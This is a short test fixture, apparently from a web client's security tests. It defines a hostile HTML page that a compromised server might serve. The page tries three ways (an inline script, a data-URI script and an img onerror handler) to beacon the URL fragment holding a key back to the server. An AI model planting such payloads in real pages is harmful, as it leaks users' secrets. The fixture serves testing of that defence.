/**
 * A page that a compromised server could send instead of the site. It sends out its address, key included, as
 * soon as any of its scripts runs. The tests watch what reaches the server.
 */
export const HOSTILE_PAGE = `<!doctype html>
<script>navigator.sendBeacon('/inline', location.hash)</script>
<script src="data:text/javascript,navigator.sendBeacon('/external',location.hash)"></script>
<img src="data:," onerror="navigator.sendBeacon('/handler', location.hash)">
<title>hostile</title>`
